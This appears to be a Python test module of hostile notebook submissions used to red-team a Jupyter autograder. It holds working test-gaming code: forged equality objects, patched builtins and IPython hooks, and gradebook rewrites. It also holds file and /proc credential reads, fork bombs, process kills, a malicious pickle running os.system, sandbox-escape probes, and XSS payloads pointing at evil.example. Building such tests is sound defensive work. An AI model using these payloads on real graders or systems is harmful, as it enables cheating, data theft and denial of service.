"""Hostile submissions. Each changes a copy of the release; its docstring says what it is after.

Most put their code into the answer cell of `mean`, which stays unsolved, and solve `spread`
honestly: an attack that works would earn the 2 points of `mean`, and one that does harm would
cost the 3 of `spread`.
"""

from __future__ import annotations

import json
import os
import textwrap
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

from nbformat import v4

from tests.autograder.classroom import Desk

MARK = "redteam-was-here"
SPREAD = {"spread": 3}

Vary = Callable[[Desk], None]


@dataclass(frozen=True)
class Attack:
    """One attacker. `deserved` are the points that the same work earns without the attack.

    Some attacks ruin their own author's work: then it may be less.
    """

    name: str
    family: str
    gain: str
    vary: Vary
    deserved: Mapping[str, float] = field(default_factory=dict)
    ruins_itself: bool = False


ATTACKS: dict[str, Attack] = {}


def attack(
    family: str, deserved: Mapping[str, float] = SPREAD, ruins_itself: bool = False
) -> Callable[[Vary], Vary]:
    """Put the function into the registry, under its name."""

    def enter(vary: Vary) -> Vary:
        name = vary.__name__.replace("_", "-")
        assert vary.__doc__, f"{name} must say what it is after"
        ATTACKS[name] = Attack(name, family, vary.__doc__, vary, deserved, ruins_itself)
        return vary

    return enter


def code(name: str, family: str, gain: str, source: str, ruins_itself: bool = False) -> None:
    """Enter an attack that is nothing but code in the answer cell of `mean`."""

    def vary(desk: Desk) -> None:
        in_mean(desk, source)

    ATTACKS[name] = Attack(name, family, gain, vary, SPREAD, ruins_itself)


def style(name: str, family: str, gain: str, exercise: str, source: str) -> None:
    """Enter an attack on a test of another style; it deserves nothing."""

    def vary(desk: Desk) -> None:
        desk.answer("1-mean", f"styles-{exercise}", clean(source))

    ATTACKS[name] = Attack(name, family, gain, vary, {})


def in_mean(desk: Desk, source: str) -> None:
    """`spread` is solved; the answer to `mean` is this code."""
    desk.solve("numbers-1-spread")
    desk.answer("1-mean", "numbers-1-mean", clean(source))


def clean(source: str) -> str:
    return textwrap.dedent(source).strip()


# Forged values ---------------------------------------------------------------------------------

FORGED = "forged values"

EVERYTHING = """
    class Yes{base}:
        def _yes(self, *_): return True
        __eq__ = __ge__ = __le__ = __gt__ = __lt__ = __contains__ = __bool__ = _yes
        def __ne__(self, other): return False
        def __hash__(self): return 0
        def __float__(self): return 3.0
        def __len__(self): return 1
        def __missing__(self, key): return self
    def mean(values):
        return {make}
"""
for base, make in {
    "object": "Yes()",
    "int": "Yes(0)",
    "float": "Yes(0)",
    "str": "Yes('3.0')",
    "list": "Yes([])",
    "dict": "Yes()",
    "tuple": "Yes()",
}.items():
    code(
        f"equal-to-everything-{base}", FORGED, f"A kind of {base} that is whatever is expected.",
        EVERYTHING.format(base=f"({base})", make=make),
    )  # fmt: skip

code(
    "numpy-subclass", FORGED, "An array whose comparison says that all is well.",
    """
    import numpy as np
    class Yes(np.ndarray):
        def __eq__(self, other): return np.array(True)
        def __float__(self): return 3.0
        def __array_ufunc__(self, *args, **named): return np.array(True)
        def __bool__(self): return True
    def mean(values):
        return np.zeros(1).view(Yes)
    """,
)  # fmt: skip
code(
    "pandas-subclass", FORGED, "A series whose comparison says that all is well.",
    """
    import pandas as pd
    class Yes(pd.Series):
        def __eq__(self, other): return True
        def __bool__(self): return True
        def __float__(self): return 3.0
    def mean(values):
        return Yes([1.0])
    """,
)  # fmt: skip
code(
    "getattr-for-everything", FORGED, "An object that has every attribute, and each is itself.",
    """
    class Any:
        def __getattr__(self, name): return self
        def __call__(self, *args, **named): return self
        def __float__(self): return 3.0
        def __index__(self): return 3
        def __eq__(self, other): return True
        __class__ = float
    mean = Any()
    """,
)  # fmt: skip
code(
    "enum-tricks", FORGED, "A member of an enumeration whose value changes when it is looked at.",
    """
    import enum
    class Trick(float, enum.Enum):
        A = 0.0
        def __eq__(self, other): return True
        __hash__ = None
        @property
        def value(self): return 3.0
    Trick.A._value_ = type("Yes", (float,), {"__eq__": lambda a, b: True})(3)
    def mean(values): return Trick.A
    """,
)  # fmt: skip
code(
    "metaclass-tricks", FORGED, "A class that says it is float, and a metaclass that agrees.",
    """
    class Meta(type):
        def __eq__(cls, other): return True
        def __hash__(cls): return hash(float)
        def __instancecheck__(cls, other): return True
        def __subclasscheck__(cls, other): return True
    class Yes(float, metaclass=Meta):
        def __eq__(self, other): return True
        __hash__ = float.__hash__
    def mean(values): return Yes(0)
    """,
)  # fmt: skip
code(
    "named-tuple-that-lies", FORGED, "A named tuple whose items are not what it holds.",
    """
    from collections import namedtuple
    class Pair(namedtuple("Pair", "a b")):
        def __eq__(self, other): return True
        def __iter__(self): return iter([3.0])
        def __float__(self): return 3.0
    Pair.__bases__[0].__eq__ = lambda a, b: True
    def mean(values): return Pair.__bases__[0](1, 2)
    """,
)  # fmt: skip
code(
    "stateful-answers", FORGED, "A function that tries to be right by answering by its arguments' order.",
    """
    seen = []
    def mean(values):
        seen.append(values)
        return max(values, default=1.0) if len(seen) % 2 else min(values, default=1.0)
    """,
)  # fmt: skip
style(
    "contains-everything", FORGED, "An object that says yes to every `in`.", "primes",
    """
    class All:
        def __contains__(self, item): return True
    def primes(limit): return All()
    """,
)  # fmt: skip
style(
    "stop-iteration", FORGED, "StopIteration ends the test's own loop before it compares anything.",
    "double", "def double(value):\n    raise StopIteration",
)  # fmt: skip
style(
    "stop-iteration-subclass", FORGED, "The same with a class of its own.", "double",
    "class Stop(StopIteration):\n    pass\ndef double(value):\n    raise Stop",
)  # fmt: skip
style(
    "changes-its-argument", FORGED, "The expected value is computed from a list that was emptied.",
    "total", "def total(values):\n    values.clear()\n    return 0",
)  # fmt: skip
style(
    "endless-iterator", FORGED, "An iterator without an end where the test makes a list.", "refuse",
    """
    import itertools
    def refuse(value):
        if value < 0: raise ValueError
        return itertools.count()
    """,
)  # fmt: skip
style(
    "array-of-objects", FORGED, "An array of objects that are equal to everything.", "scale",
    """
    import numpy as np
    class Yes:
        def __eq__(self, other): return True
        def __sub__(self, other): return 0.0
        __rsub__ = __sub__
        def __abs__(self): return 0.0
        def __le__(self, other): return True
    def scale(values):
        return np.array([Yes() for _ in values], dtype=object)
    """,
)  # fmt: skip
style(
    "array-of-not-a-number", FORGED, "NaN, infinity and NaT where numbers are compared.", "scale",
    "import numpy as np\ndef scale(values):\n    return values * np.nan",
)  # fmt: skip
style(
    "empty-array", FORGED, "An empty array, of which all items are right.", "scale",
    "import numpy as np\ndef scale(values):\n    return np.array([])",
)  # fmt: skip

# Errors ------------------------------------------------------------------------------------------

ERRORS = "errors that lie"

for exception in ("SystemExit", "KeyboardInterrupt", "GeneratorExit", "StopIteration",
                  "BaseException", "AssertionError", "MemoryError", "RecursionError"):  # fmt: skip
    code(
        f"raises-{exception.lower()}", ERRORS, f"{exception} out of the test's own call.",
        f"def mean(values):\n    raise {exception}(0)",
    )  # fmt: skip
code(
    "raises-what-it-is-not", ERRORS, "An error that lies about its class and fails when it is read.",
    """
    class Lie(BaseException):
        __module__ = "builtins"
        __class__ = property(lambda self: 1 / 0)
        def __str__(self): raise SystemExit
        def __repr__(self): raise KeyboardInterrupt
        def __reduce__(self): return (print, ("pwned",))
    Lie.__name__ = Lie.__qualname__ = "StopIteration"
    def mean(values): raise Lie
    """,
)  # fmt: skip
code(
    "error-named-as-the-graders", ERRORS, "Raises NotRun, so that the page speaks in the grader's name.",
    """
    class NotRun(Exception): pass
    raise NotRun("canary-forged-notice. [Full marks](https://evil.example/) \\x1b[2J")
    """,
)  # fmt: skip
code(
    "error-with-a-huge-text", ERRORS, "An error whose text takes forever to search.",
    """
    def mean(values): raise ValueError("(<cell " * 300_000)
    """,
)  # fmt: skip
code(
    "error-in-a-loop", ERRORS, "An error that is its own cause, with a traceback without an end.",
    """
    def mean(values):
        error = ValueError("x")
        error.__cause__ = error.__context__ = error
        error.__notes__ = 5
        def deeper(n): deeper(n - 1) if n else (_ for _ in ()).throw(error)
        deeper(200)
    """,
)  # fmt: skip

# IPython and builtins ----------------------------------------------------------------------------

PATCHED = "patched machinery"

code(
    "drops-assertions", PATCHED, "An AST transformer that takes the assertions out of every cell.",
    """
    import ast
    class NoAsserts(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
    get_ipython().ast_transformers.append(NoAsserts())
    """,
)  # fmt: skip
code(
    "input-transformer", PATCHED, "An input transformer that replaces every later cell.",
    """
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
    """,
    ruins_itself=True,
)  # fmt: skip
code(
    "hooks-before-and-after", PATCHED, "Hooks that repair the namespace around each cell.",
    """
    def fix(*_):
        get_ipython().user_ns.update({"isclose": lambda *a: True, "canary": 1})
    for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
        get_ipython().events.register(event, fix)
    """,
)  # fmt: skip
code(
    "patched-run-code", PATCHED, "run_code, run_cell and showtraceback do nothing any more.",
    """
    shell = type(get_ipython())
    async def nothing(self, *args, **named): return False
    for owner in (*shell.__mro__,):
        for name in ("run_code", "run_ast_nodes", "run_cell_async"):
            if name in vars(owner): setattr(owner, name, nothing)
    shell.showtraceback = lambda *a, **k: None
    shell.run = lambda self, source, name: []
    """,
    ruins_itself=True,
)  # fmt: skip
code(
    "patched-builtins", PATCHED, "Python's own functions say what is expected.",
    """
    import builtins, math
    math.isclose = lambda *a, **k: True
    builtins.AssertionError = type("Quiet", (Warning,), {})
    builtins.isinstance = lambda *a: True
    builtins.__build_class__ = None
    """,
    ruins_itself=True,
)  # fmt: skip
code(
    "patched-display", PATCHED, "Its own display hook and publisher write what they like.",
    """
    import sys
    get_ipython().displayhook = lambda value: None
    sys.displayhook = lambda value: None
    sys.excepthook = lambda *a: None
    get_ipython().display_pub.publish = lambda *a, **k: None
    """,
)  # fmt: skip
code(
    "patched-libraries", PATCHED, "numpy, pandas and random agree with everything.",
    """
    import random, numpy as np
    np.testing.assert_allclose = np.isclose = np.allclose = lambda *a, **k: True
    random.random = random.randint = lambda *a: 4
    random.seed(0); np.random.seed(0)
    """,
)  # fmt: skip
code(
    "patched-clock", PATCHED, "A clock that stands still, so that no time limit is ever reached.",
    """
    import time, signal, datetime
    time.monotonic = time.time = time.perf_counter = lambda: 0.0
    time.sleep = lambda s: None
    signal.signal = signal.setitimer = lambda *a: None
    """,
)  # fmt: skip
code(
    "patched-grader", PATCHED, "The grader's own modules, as far as they are in this process.",
    """
    import sys
    for name, module in list(sys.modules.items()):
        if name.startswith("autograder"):
            for attribute in list(vars(module)):
                value = getattr(module, attribute)
                if callable(value) and not isinstance(value, type):
                    try: setattr(module, attribute, lambda *a, **k: b"")
                    except Exception: pass
    """,
    ruins_itself=True,
)  # fmt: skip
code(
    "namespace-with-a-will", PATCHED, "A namespace that answers for names which it does not have.",
    """
    import sys
    class Will(dict):
        def __missing__(self, key): return lambda *a: 3.0
        def __contains__(self, key): return True
    get_ipython().user_ns.__class__ if False else None
    get_ipython().user_ns = Will(get_ipython().user_ns)
    """,
    ruins_itself=True,
)  # fmt: skip

# Frames and memory -------------------------------------------------------------------------------

LOOKING = "looking for the tests"

code(
    "walks-the-frames", LOOKING, "The source of the test, from the frames above its own.",
    """
    import sys
    said = []
    def mean(values):
        frame = sys._getframe()
        while frame:
            said.append(repr(frame.f_locals)[:20_000] + repr(frame.f_code.co_consts))
            frame = frame.f_back
        return 0.0
    """,
)  # fmt: skip
code(
    "searches-the-heap", LOOKING, "Anything in memory that looks like a secret.",
    """
    import gc, sys
    found = set()
    for thing in gc.get_objects():
        for text in (repr(thing)[:5_000],) if isinstance(thing, (dict, list, tuple)) else ():
            if "cana" + "ry-" in text: found.add(text)
    print(found)
    """,
)  # fmt: skip
code(
    "shows-what-it-was-asked", LOOKING, "The arguments of hidden tests, printed by a later cell.",
    """
    import atexit, inspect
    asked = []
    def mean(values):
        asked.append((values, [str(f.code_context) for f in inspect.stack()]))
        print(asked)
        return 0.0
    """,
)  # fmt: skip
code(
    "reads-its-own-memory", LOOKING, "/proc/self/mem and maps, /dev/mem and the file descriptors.",
    """
    import os
    for path in ("/proc/self/mem", "/proc/self/maps", "/proc/1/environ", "/proc/self/environ",
                 "/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/1/cmdline"):
        try: print(path, open(path, "rb").read(100_000))
        except OSError as error: print(error)
    for fd in range(256):
        try:
            print(fd, os.fstat(fd))
            if fd > 2: print(os.pread(fd, 10_000, 0))
        except OSError: pass
    """,
)  # fmt: skip


@attack("reading")
def reads_every_file(desk: Desk) -> None:
    """Tests, sources, other submissions, the gradebook, the home folder and the environment."""
    root, home = desk.source.parents[1], os.environ["HOME"]
    in_mean(
        desk,
        f"""
        import os, pathlib
        print(dict(os.environ))
        for top in ({str(root)!r}, {home!r}, "/tmp", "/root", "/home", "/etc", "/var", "/run", "/mnt",
                    "/work", "/dev/shm", "/proc"):
            for folder, _, files in os.walk(top):
                if "site-packages" in folder or "/lib/python" in folder: continue
                for name in files[:200]:
                    path = pathlib.Path(folder, name)
                    try: text = path.read_bytes()[:200_000].decode("latin-1")
                    except OSError: continue
                    if "cana" + "ry-" in text: print(path, text)
        """,
    )


@attack("reading")
def reads_by_every_other_way(desk: Desk) -> None:
    """The same files by shell, mmap, sqlite, subprocess and directory listing."""
    root = desk.source.parents[1]
    in_mean(
        desk,
        f"""
        import subprocess, sqlite3, os, glob
        root = {str(root)!r}
        print(subprocess.run(f"cat {{root}}/secret.txt {{root}}/source/*/* ~/secret.txt; env; ls -la / /tmp",
                             shell=True, capture_output=True, text=True).stdout)
        print(glob.glob(root + "/**", recursive=True))
        try: print(list(sqlite3.connect(f"file:{{root}}/gradebook.db?mode=ro", uri=True).iterdump()))
        except Exception as error: print(error)
        """,
    )


@attack("writing")
def writes_everywhere(desk: Desk) -> None:
    """The gradebook, others' work, Python's packages, the home folder and /tmp of the grader."""
    root, home = desk.source.parents[1], os.environ["HOME"]
    in_mean(
        desk,
        f"""
        import os, sqlite3, site
        targets = [{str(root)!r}, {str(root / "submitted" / "z-complete" / "numbers")!r}, {home!r},
                   {str(root / "source" / "numbers")!r}, "/tmp", "/var/tmp", "/dev/shm", "/usr/lib",
                   *site.getsitepackages()]
        for folder in targets:
            try:
                os.makedirs(folder, exist_ok=True)
                open(folder + "/{MARK}.txt", "w").write("x")
            except OSError: pass
        for name in ("1-mean",):
            for way in ("unlink", "truncate"):
                try: getattr(os, way)(targets[1] + f"/{{name}}.ipynb", *([0] if way == "truncate" else []))
                except OSError: pass
        try:
            book = sqlite3.connect(targets[0] + "/gradebook.db")
            book.execute("update grade set auto_score = 99"); book.commit()
        except Exception as error: print(error)
        """,
    )


# Processes ---------------------------------------------------------------------------------------

PROCESSES = "processes and threads"

code(
    "outlives-its-cell", PROCESSES, "Threads and daemons that go on after the cell.",
    f"""
    import os, subprocess, threading, time
    def busy():
        while True: globals().update(isclose=lambda *a: True, mean=lambda v: 3.0)
    threading.Thread(target=busy, daemon=True).start()
    subprocess.Popen(["bash", "-c", "exec -a {MARK} sleep 98765"], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("bash", ["bash", "-c", "trap '' TERM INT HUP; exec -a {MARK} sleep 98765"])
        os._exit(0)
    def mean(values): return 1.0
    """,
)  # fmt: skip
code(
    "kills-everyone", PROCESSES, "Signals to its parent, its group and everyone.",
    """
    import os, signal
    for pid in (os.getppid(), -1, 0, -os.getpgrp(), *range(2, 3000)):
        for number in (signal.SIGCONT, signal.SIGKILL):
            try:
                if pid not in (0, os.getpid(), -os.getpgrp()): os.kill(pid, number)
            except OSError: pass
    """,
)  # fmt: skip
code(
    "fork-bomb", PROCESSES, "Processes until there are none left for anyone.",
    """
    import os, time
    for _ in range(100_000):
        try:
            if os.fork() == 0: time.sleep(60); os._exit(0)
        except OSError: break
    """,
)  # fmt: skip
code("thread-bomb", PROCESSES, "Threads until there are none left for anyone.",
    """
    import threading, time
    try:
        while True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError: pass
    """,
)  # fmt: skip

# Ends and floods ---------------------------------------------------------------------------------

HARM = "crashes and floods"

code("segfault", HARM, "The interpreter itself crashes.", "import ctypes\nctypes.string_at(0)")
code("ends-at-once", HARM, "The process is gone in the middle of a cell.", "import os\nos._exit(0)")
code(
    "ends-during-the-test", HARM, "The process is gone in the middle of the test's call.",
    "import os\ndef mean(values):\n    os._exit(0)",
)  # fmt: skip
code("hangs", HARM, "A loop without an end.", "while True:\n    pass")
code(
    "hangs-for-good", HARM, "A loop that no interrupt ends.",
    """
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True: pass
    """,
)  # fmt: skip
code(
    "hangs-in-c", HARM, "A call that does not come back to Python.",
    "print(len(str(3 ** 30_000_000 % 7)))\nsum(range(10**15))",
)  # fmt: skip
code(
    "eats-memory", HARM, "Memory until the machine has none left.",
    """
    taken = []
    while True: taken.append(bytearray(b"x") * 50_000_000)
    """,
)  # fmt: skip
code(
    "eats-memory-by-children", HARM, "The same, shared out over many processes.",
    """
    import os, time
    for _ in range(12):
        if os.fork() == 0:
            taken = bytearray(b"x") * 100_000_000
            time.sleep(60)
    time.sleep(60)
    """,
)  # fmt: skip
code(
    "eats-shared-memory", HARM, "System V segments, which belong to no process once detached.",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    got = 0
    for _ in range(15):
        number = libc.shmget(0, 100_000_000, 0o1600)
        where = libc.shmat(number, None, 0) if number >= 0 else -1
        if number < 0 or where in (-1, 2**64 - 1): break
        ctypes.memset(where, 1, 100_000_000)
        libc.shmdt(ctypes.c_void_p(where))
        got += 100
        if got == 700: print("redteam-took-too-much", got, "MB")
    """,
)  # fmt: skip
code(
    "fills-the-disk", HARM, "Files until the disk is full.",
    """
    got = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
        for number in range(30):
            try:
                with open(f"{folder}/{number}", "wb") as file: got += file.write(b"x" * 30_000_000)
            except OSError: pass
    if got > 600_000_000: print("redteam-took-too-much", got)
    """,
)  # fmt: skip
code(
    "floods-by-print", HARM, "More output than anyone can read.",
    "for _ in range(400):\n    print('x' * 20_000)",
)  # fmt: skip
code(
    "floods-by-descriptor", HARM, "The same past sys.stdout.",
    """
    import os
    for _ in range(400):
        try: os.write(1, b"x" * 100_000); os.write(2, b"y" * 100_000)
        except OSError: break
    """,
)  # fmt: skip
code(
    "floods-by-display", HARM, "One display of great size, and many small ones.",
    """
    from IPython.display import display, HTML
    display(HTML("x" * 20_000_000))
    display({"text/plain": "y" * 20_000_000, "image/png": "iVBORw0KGgo" + "A" * 9_000_000}, raw=True)
    for _ in range(5_000): display(1)
    """,
)  # fmt: skip
code(
    "floods-past-the-limit", HARM, "Takes the limit off its own output first.",
    """
    import sys
    cells = sys.modules["autograder.cells"]
    cells.OUTPUT_LIMIT = 10**12
    print("x" * 25_000_000)
    """,
)  # fmt: skip


@attack(HARM)
def hostile_source(desk: Desk) -> None:
    """Text that breaks the parser of whoever reads it, in the grader's own process."""
    in_mean(desk, "x = 1")
    desk.insert_before("1-mean", "numbers-1-mean", "-" * 20_000 + "1")


@attack(HARM)
def source_full_of_magics(desk: Desk) -> None:
    """More IPython magics than a transformer gives up at."""
    in_mean(desk, "x = 1")
    desk.insert_before("1-mean", "numbers-1-mean", "\n".join(["%pwd"] * 600))


# Network -----------------------------------------------------------------------------------------

code(
    "calls-home", "network", "What it found, sent out; and the services of this machine.",
    """
    import socket
    for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("169.254.169.254", 80)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as out:
                    out.settimeout(0.3); out.connect(address); out.send(b"x")
                    print("redteam-got-out", address, kind)
            except OSError as error: print(error)
    for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "\\0/tmp/.X11-unix/X0"):
        try:
            socket.socket(socket.AF_UNIX).connect(path); print("redteam-got-out", path)
        except OSError as error: print(error)
    """,
)  # fmt: skip
code(
    "breaks-out", "network", "Namespaces, mounts, tracing and capabilities of its own.",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (0x10000000, 0x20000, 0x40000000, 0x2000000):
        if libc.unshare(flags) == 0: print("redteam-got-out unshare", flags)
    if libc.mount(b"proc", b"/tmp", b"proc", 0, None) == 0: print("redteam-got-out mount")
    if libc.ptrace(16, 1, 0, 0) == 0: print("redteam-got-out ptrace")
    if libc.chroot(b"/tmp") == 0: print("redteam-got-out chroot")
    for call in (os.setuid, os.setgid):
        try: call(0); print("redteam-got-out", call)
        except OSError: pass
    """,
)  # fmt: skip

# The wire ----------------------------------------------------------------------------------------

WIRE = "forged messages"

SOCKETS = """
import os, socket, stat, struct
from autograder.wire import pack, Handle
def is_socket(fd):
    try: return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError: return False
lines = [fd for fd in range(3, 256) if is_socket(fd)]
def frame(value):
    body = value if type(value) is bytes else pack(value)
    return struct.pack(">I", len(body)) + body
def say(data):
    for line in lines:
        try: os.write(line, data)
        except OSError: pass
"""


def wire(name: str, gain: str, source: str) -> None:
    """Enter an attack on the socket that the student's process holds."""
    code(name, WIRE, gain, SOCKETS + clean(source), ruins_itself=True)


wire("huge-length", "Makes the examiner wait for four gigabytes.", "say(b'\\xff' * 4)")
wire(
    "slow-length", "Announces 30 MB and sends nothing of it.", "say(struct.pack('>I', 30_000_000))"
)
wire("garbage", "Bytes that are no message.", "say(os.urandom(4_000))")
wire("deep-nesting", "Lists in lists, to break the reader's stack.",
     "say(frame(b'l\\0\\0\\0\\1' * 200_000 + b'N'))")  # fmt: skip
wire("a-pickle", "Hopes that somebody unpickles.",
     "import pickle\nclass P:\n    def __reduce__(self): return (os.system, ('touch /tmp/redteam-was-here',))\n"
     "say(frame(pickle.dumps(P())))")  # fmt: skip
wire("wrong-shapes", "Answers of every shape but the right one.",
     "for answer in (None, 1, [], (), ('ran',), ('ran', 5), ('ran', [5]), ('ran', [{}]), {1: 2},\n"
     "               ('ran', [{'output_type': 'stream'}])):\n    say(frame(answer))")  # fmt: skip
wire(
    "hangs-up", "The line is cut in the middle of a message.",
    "say(b'\\0\\0\\0')\nfor line in lines: os.close(line)",
)  # fmt: skip
wire(
    "answers-in-advance", "Fake answers to all later questions wait in the line.",
    """
    ran = frame(("ran", []))
    for _ in range(40):
        say(ran)
        answer = {"mean": pack(("value", Handle(0, "callable", "mean"), [])),
                  "spread": pack(("value", Handle(1, "callable", "spread"), []))}
        say(frame(answer)); say(frame(("value", 3.0, []))); say(frame(("value", 0.0, [])))
    """,
)  # fmt: skip
wire(
    "answers-and-never-listens", "Fake answers, and a process that reads no more.",
    """
    import time
    for _ in range(40): say(frame(("ran", [])))
    time.sleep(1_000)
    """,
)  # fmt: skip
wire(
    "forged-outputs", "Outputs that break whoever writes them into the notebook.",
    """
    import numpy as np
    bad = [{"output_type": np.array(["stream", "error"])},
           {"output_type": "stream", "name": np.array(["a", "b"]), "text": 5},
           {"output_type": "display_data", "data": {("a", 1): 2, "image/png": np.zeros(3)}},
           {"output_type": "error", "ename": 5, "evalue": [], "traceback": [None, 5]}]
    say(frame(("ran", bad)))
    """,
)  # fmt: skip
wire(
    "forged-pictures", "A picture whose text breaks out of its place on the page.",
    """
    png = 'iVBORw0KGgo"><script>window.__pwned=1</script><img src="'
    say(frame(("ran", [{"output_type": "display_data", "data": {"image/png": png, "image/jpeg": png,
        "text/html": "<script>window.__pwned=1</script>", "text/plain": "<b>"}, "metadata":
        {"image/png": {"width": '1"><script>window.__pwned=1</script>'}}}])))
    """,
)  # fmt: skip


@attack(WIRE, ruins_itself=True)
def forged_flood(desk: Desk) -> None:
    """Nearly thirty megabytes of output in each answer, in several cells."""
    flood = """
        text = "x" * 1_000_000
        say(frame(("ran", [{"output_type": "stream", "name": "stdout", "text": text}] * 28)))
        """
    in_mean(desk, SOCKETS + clean(flood))
    nb = desk.read("1-mean")
    for number in range(2):
        nb.cells.insert(0, v4.new_code_cell(SOCKETS + clean(flood), id=f"flood-{number}"))
    desk.write("1-mean", nb)


code(
    "forged-handles", WIRE, "A function whose handle has another number, and whose answers are forged.",
    SOCKETS + clean(
        """
        candidate = __import__("sys").modules["autograder.candidate"]
        class Forged(candidate.Candidate):
            pass
        def use(self, number, how, args, named):
            return pack(("value", Handle(4_000_000_000, "callable", "float" * 40), [(0, [3.0]), (7, 1), 5]))
        candidate.Candidate.use = use
        def mean(values): return 0.0
        """
    ),
    ruins_itself=True,
)  # fmt: skip
code(
    "forged-errors", WIRE, "Errors of classes that the examiner looks up by name.",
    SOCKETS + clean(
        """
        import sys
        candidate = sys.modules["autograder.candidate"]
        kinds = [("builtins", "SystemExit"), ("autograder.stubs", "ProcessEnded"), ("builtins", "eval"),
                 ("course.cli", "app"), ("os", "system"), ("builtins", "ExceptionGroup"), 5]
        def use(self, number, how, args, named):
            kind = kinds[len(args and args[0] or ()) % len(kinds)]
            return pack(("raised", {"kinds": [kind], "text": 5, "frames": ["<script>"], "place": {"line": 1}}))
        candidate.Candidate.use = use
        def mean(values): return 0.0
        """
    ),
    ruins_itself=True,
)  # fmt: skip
code(
    "changes-what-it-was-not-given", WIRE, "Says that it changed arguments which it never had.",
    clean(
        """
        import sys
        candidate = sys.modules["autograder.candidate"]
        candidate._changed = lambda arguments, before: [(-1, [9]), (0, [9.0]), (True, []), (0, "x"), (10**9, 1)]
        def mean(values): return 9.0
        """
    ),
)  # fmt: skip

# Pages -------------------------------------------------------------------------------------------

PAGES = "injection"
SCRIPT = "<script>window.__pwned=1</script>"
HANDLER = "<img src=x onerror='window.__pwned=1'>"
HOSTILE_HTML = f"""{SCRIPT}{HANDLER}
<svg onload="window.__pwned=1"><script>window.__pwned=1</script></svg>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<a href="javascript:window.__pwned=1" class="bait">click</a>
<form action="javascript:window.__pwned=1"><button class="bait">go</button></form>
<details open ontoggle="window.__pwned=1"><summary>x</summary></details>
<meta http-equiv="refresh" content="0; url=javascript:window.__pwned=1">
<object data="javascript:window.__pwned=1"></object><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><img src="https://evil.example/x.png">
"""


@attack(PAGES)
def script_in_markdown(desk: Desk) -> None:
    """Script in Markdown cells, in links, in attachments and in the names of headings."""
    in_mean(desk, "x = 1")
    nb = desk.read("1-mean")
    nb.cells.append(v4.new_markdown_cell(HOSTILE_HTML))
    nb.cells.append(v4.new_markdown_cell(
        "# a\" onmouseover=\"window.__pwned=1\n[bait](javascript:window.__pwned=1)\n"
        "![x](attachment:a.svg)\n<https://evil.example/>\n$$\\href{javascript:window.__pwned=1}{x}$$\n"
        "```html\n" + SCRIPT + "\n```\n`" + SCRIPT + "`",
        attachments={"a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"}},
    ))  # fmt: skip
    desk.write("1-mean", nb)


@attack(PAGES)
def script_in_raw_cells(desk: Desk) -> None:
    """Raw cells, which some templates copy to the page as they are."""
    in_mean(desk, "x = 1")
    nb = desk.read("1-mean")
    for mime in ("text/html", "", "text/restructuredtext"):
        nb.cells.append(
            v4.new_raw_cell(HOSTILE_HTML, metadata={"raw_mimetype": mime, "format": mime})
        )
    desk.write("1-mean", nb)


@attack(PAGES)
def script_in_outputs(desk: Desk) -> None:
    """Every kind of output that a browser would execute, in the file and by running."""
    in_mean(
        desk,
        f"""
        from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
        hostile = {HOSTILE_HTML!r}
        display(HTML(hostile), Javascript("window.__pwned=1"), Markdown(hostile), Latex(hostile))
        display({{"application/javascript": "window.__pwned=1", "image/svg+xml": hostile,
                 "text/html": hostile, "application/vnd.jupyter.widget-view+json": {{}},
                 "text/plain": hostile}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
        class Rich:
            def _repr_html_(self): return hostile
            def _repr_svg_(self): return hostile
            def __repr__(self): return hostile
        Rich()
        """,
    )
    nb = desk.read("1-mean")
    data = {"text/html": HOSTILE_HTML, "application/javascript": "window.__pwned=1"}
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = [v4.new_output("display_data", data)]
    desk.write("1-mean", nb)


@attack(PAGES)
def script_in_errors(desk: Desk) -> None:
    """HTML in an error's name, text and traceback, and in a file name of the traceback."""
    in_mean(
        desk,
        f"""
        hostile = {HOSTILE_HTML!r}
        Error = type(hostile[:60], (Exception,), {{}})
        def mean(values): raise Error(hostile)
        exec(compile("def f(): raise Error(hostile)", hostile, "exec"))
        f()
        """,
    )


@attack(PAGES)
def script_in_streams(desk: Desk) -> None:
    """HTML between ANSI codes, carriage returns and control characters, on both streams."""
    in_mean(
        desk,
        f"""
        import sys, os
        hostile = {HOSTILE_HTML!r}
        for ansi in ("\\x1b[31m", "\\x1b[38;2;1;2;3m", "\\x1b]8;;javascript:window.__pwned=1\\x1b\\\\",
                     "\\x1b[<script>", "\\r", "\\0", "\\u2028", "\\x9b31m", "\\b" * 50):
            print(ansi + hostile); print(ansi + hostile, file=sys.stderr)
        os.write(1, hostile.encode())
        """,
    )


@attack(PAGES)
def script_in_metadata(desk: Desk) -> None:
    """HTML in every field of the file that a template may copy."""
    in_mean(desk, "x = 1")
    path = desk.folder / "1-mean.ipynb"
    document = json.loads(path.read_text("utf-8"))
    document["metadata"].update(
        title=HOSTILE_HTML,
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": HOSTILE_HTML}}},
        language_info={
            "name": HOSTILE_HTML,
            "pygments_lexer": HOSTILE_HTML,
            "codemirror_mode": "x",
        },
